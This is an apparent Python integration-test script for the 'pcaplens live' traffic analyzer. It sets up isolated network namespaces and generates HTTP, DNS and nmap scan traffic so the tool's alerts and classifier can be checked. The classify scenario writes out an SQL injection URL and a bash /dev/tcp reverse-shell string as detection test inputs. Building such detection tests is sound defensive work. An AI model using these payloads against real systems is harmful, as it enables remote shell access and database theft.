#!/usr/bin/env python3
"""`pcaplens live` on a real interface (tests/integration/traffic_live.rs).

    live.py SCENARIO PCAPLENS OUT_DIR TAG

Two throw-away network namespaces joined by a veth. In namespace b: an HTTP
server, a DNS resolver (dnsmasq), tcpdump and `pcaplens live` on the same
interface. From namespace a: curl, dig and an nmap SYN scan. Writes
OUT_DIR/result.json with what happened and when (monotonic seconds), what
pcaplens printed and its exit status; the Rust test judges it.

Scenarios:
- main: the traffic above; pcaplens writes alerts (with flows) and keeps the
  packets (--write); SIGINT at the end.
- filter: the same traffic with `-f "tcp port 80"`.
- classify: `--classify` with the rule-based classifier (no endpoint): curl
  sends an SQL injection and a reverse-shell string in HTTP requests; the EVE
  alerts must carry the categories.
- classify_model: the same against a local chat-completions server
  (tests/traffic/chat_server.py on 127.0.0.1 inside namespace b), which records
  every request.
"""
import json
import os
import signal
import subprocess
import sys
import time

from transport import Lab  # noqa: E402  (namespaces, veths, processes, cleanup)

SERVER, CLIENT = "10.6.0.2", "10.6.0.1"
HERE = os.path.dirname(os.path.abspath(__file__))


def wait_line(p, needle, what, timeout=20):
    """Read p's stderr until a line holds needle; returns what was read."""
    seen = b""
    deadline = time.monotonic() + timeout
    while needle not in seen:
        if time.monotonic() > deadline:
            raise RuntimeError("%s: no %r in %s s: %s" % (what, needle, timeout, seen.decode()))
        line = p.stderr.readline()
        if not line:
            raise RuntimeError("%s died: %s" % (what, seen.decode()))
        seen += line
    return seen.decode()


def is_scan(line):
    """An EVE alert line of a scan finding."""
    return (line.get("event_type") == "alert"
            and line["alert"].get("metadata", {}).get("pcaplens_kind") == ["scan"])


def alerts_of(path):
    out = []
    if os.path.exists(path):
        with open(path) as f:
            for line in f:
                line = line.strip()
                if line:
                    out.append(json.loads(line))
    return out


def scenario(lab, pcaplens, out, bpf):
    a, b = lab.ns("a"), lab.ns("b")
    va, vb = lab.veth(a, b)
    for ns, iface in ((a, va), (b, vb)):
        # No IPv6 neighbour discovery or MLD chatter: both captures see only the test's traffic.
        lab.sysctl(ns, "net.ipv6.conf.%s.disable_ipv6" % iface, 1)
    lab.ip(a, "addr add %s/24 dev %s" % (CLIENT, va))
    lab.ip(b, "addr add %s/24 dev %s" % (SERVER, vb))
    www = os.path.join(out, "www")
    os.makedirs(www, exist_ok=True)
    with open(os.path.join(www, "index.html"), "w") as f:
        f.write("<html>pcaplens live test</html>\n" * 50)
    lab.spawn(b, [sys.executable, "-m", "http.server", "--bind", SERVER, "--directory", www, "80"],
              stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    lab.spawn(b, ["dnsmasq", "--no-daemon", "--no-resolv", "--no-hosts", "--bind-interfaces",
                  "--listen-address=%s" % SERVER, "--port=53", "--user=root",
                  "--pid-file=%s" % os.path.join(out, "dnsmasq.pid"),
                  "--address=/www.live.test/%s" % SERVER, "--log-facility=-"],
              stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    tcpdump_file = lab.capture(b, vb, "tcpdump.pcap", "ethernet", snaplen=65535)
    alerts = os.path.join(out, "alerts.json")
    kept = os.path.join(out, "kept.pcap")
    report = open(os.path.join(out, "report.json"), "wb")
    cmd = [pcaplens, "live", "-i", vb, "--json", "--status", "--interval", "1",
           "--alerts", alerts, "--eve-flows", "--stats-interval", "1", "-w", kept]
    if bpf:
        cmd += ["-f", bpf]
    live = lab.spawn(b, cmd, stdout=report, stderr=subprocess.PIPE)
    wait_line(live, b"listening on", "pcaplens live")
    time.sleep(0.5)
    times = {}
    # Let the servers bind (dnsmasq and http.server start in parallel with the captures).
    for _ in range(50):
        r = lab.spawn(a, ["curl", "-s", "-o", "/dev/null", "-w", "%{http_code}",
                          "http://%s/index.html" % SERVER], stdout=subprocess.PIPE)
        code = r.communicate(timeout=10)[0].decode()
        if code == "200":
            break
        time.sleep(0.2)
    times["http_done"] = time.monotonic()
    dig = lab.run(a, ["dig", "+short", "+tries=1", "+time=2", "@" + SERVER, "www.live.test"])
    lab.run(a, ["dig", "+short", "+tries=1", "+time=2", "@" + SERVER, "nxdomain.live.test"])
    times["dns_done"] = time.monotonic()
    if not bpf:
        lab.run(a, ["nmap", "-n", "-Pn", "-T5", "--max-retries", "1", "-sS", "-p1-200", SERVER],
                timeout=120)
        times["scan_done"] = time.monotonic()
        # The scan alert, while the capture still runs.
        deadline = time.monotonic() + 15
        while time.monotonic() < deadline:
            if any(is_scan(x) for x in alerts_of(alerts)):
                times["scan_alert_seen"] = time.monotonic()
                break
            time.sleep(0.1)
    # A quiet link: flows end by the clock (closed ones after a few seconds).
    time.sleep(4)
    flows_before_stop = [x for x in alerts_of(alerts) if x.get("event_type") == "flow"]
    status_lines = []
    lab.stop_captures()
    times["stop"] = time.monotonic()
    live.send_signal(signal.SIGINT)
    err = live.stderr.read().decode()
    rc = live.wait(timeout=30)
    report.close()
    status_lines = [l for l in err.splitlines() if l.startswith("pcaplens live: ") and "packets" in l]
    return {
        "rc": rc,
        "stderr": err[-4000:],
        "status_lines": len(status_lines),
        "times": times,
        "dig": dig.strip(),
        "flows_before_stop": flows_before_stop,
        "alerts": alerts_of(alerts),
        "tcpdump": os.path.basename(tcpdump_file),
        "kept": os.path.basename(kept),
    }


SQLI_URL = "http://%s/search?q=1%%27%%20OR%%201=1%%20UNION%%20SELECT%%20password%%20FROM%%20users--" % SERVER
SHELL_BODY = "cmd=bash -i >& /dev/tcp/%s/4444 0>&1" % CLIENT


def scenario_classify(lab, pcaplens, out, model):
    a, b = lab.ns("a"), lab.ns("b")
    va, vb = lab.veth(a, b)
    for ns, iface in ((a, va), (b, vb)):
        lab.sysctl(ns, "net.ipv6.conf.%s.disable_ipv6" % iface, 1)
    lab.ip(a, "addr add %s/24 dev %s" % (CLIENT, va))
    lab.ip(b, "addr add %s/24 dev %s" % (SERVER, vb))
    www = os.path.join(out, "www")
    os.makedirs(www, exist_ok=True)
    with open(os.path.join(www, "index.html"), "w") as f:
        f.write("<html>pcaplens classify test</html>\n")
    lab.spawn(b, [sys.executable, "-m", "http.server", "--bind", SERVER, "--directory", www, "80"],
              stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    env = {k: v for k, v in os.environ.items()
           if k not in ("AZURE_OPENAI_ENDPOINT", "OPENAI_BASE_URL", "OPENAI_API_KEY")}
    requests_log = os.path.join(out, "requests.jsonl")
    if model:
        open(requests_log, "w").close()
        chat = lab.spawn(b, [sys.executable, os.path.join(HERE, "chat_server.py"), requests_log],
                         stdout=subprocess.PIPE)
        port = int(chat.stdout.readline())
        env["OPENAI_BASE_URL"] = "http://127.0.0.1:%d/v1" % port
        env["OPENAI_MODEL"] = "test-model"
    alerts = os.path.join(out, "alerts.json")
    report = open(os.path.join(out, "report.json"), "wb")
    cmd = [pcaplens, "live", "-i", vb, "--json", "--classify", "--alerts", alerts,
           "--flow-timeout", "2"]
    # cwd: an empty directory (no .env is read).
    live = lab.spawn(b, cmd, stdout=report, stderr=subprocess.PIPE, env=env, cwd=out)
    wait_line(live, b"listening on", "pcaplens live")
    time.sleep(0.5)
    for _ in range(50):
        r = lab.spawn(a, ["curl", "-s", "-o", "/dev/null", "-w", "%{http_code}",
                          "http://%s/index.html" % SERVER], stdout=subprocess.PIPE)
        if r.communicate(timeout=10)[0].decode() == "200":
            break
        time.sleep(0.2)
    lab.run(a, ["curl", "-s", "-o", "/dev/null", SQLI_URL])
    lab.run(a, ["curl", "-s", "-o", "/dev/null", "--data", SHELL_BODY,
                "http://%s/upload" % SERVER])
    # The alerts arrive while the capture runs.
    seen_at = None
    deadline = time.monotonic() + 20
    while time.monotonic() < deadline:
        cats = {x["alert"]["metadata"]["classify_category"][0] for x in alerts_of(alerts)
                if x.get("event_type") == "alert" and x["alert"]["signature_id"] == 9000100}
        if {"sql_injection", "reverse_shell"} <= cats:
            seen_at = time.monotonic()
            break
        time.sleep(0.2)
    live.send_signal(signal.SIGINT)
    err = live.stderr.read().decode()
    rc = live.wait(timeout=30)
    report.close()
    return {
        "rc": rc,
        "stderr": err[-4000:],
        "alerts_while_running": seen_at is not None,
        "alerts": alerts_of(alerts),
        "requests": alerts_of(requests_log) if model else [],
        "originals": [SERVER, CLIENT],
    }


def main():
    name, pcaplens, out, tag = sys.argv[1], sys.argv[2], sys.argv[3], sys.argv[4]
    os.makedirs(out, exist_ok=True)
    lab = Lab(tag, out)

    def too_long(*_):
        raise TimeoutError("scenario %s took over 150 s" % name)
    signal.signal(signal.SIGALRM, too_long)
    signal.alarm(150)
    try:
        if name.startswith("classify"):
            res = scenario_classify(lab, pcaplens, out, name == "classify_model")
        else:
            res = scenario(lab, pcaplens, out, "tcp port 80" if name == "filter" else None)
    finally:
        signal.alarm(0)
        lab.close()
    res["scenario"] = name
    with open(os.path.join(out, "result.json"), "w") as f:
        json.dump(res, f, indent=1)


if __name__ == "__main__":
    main()
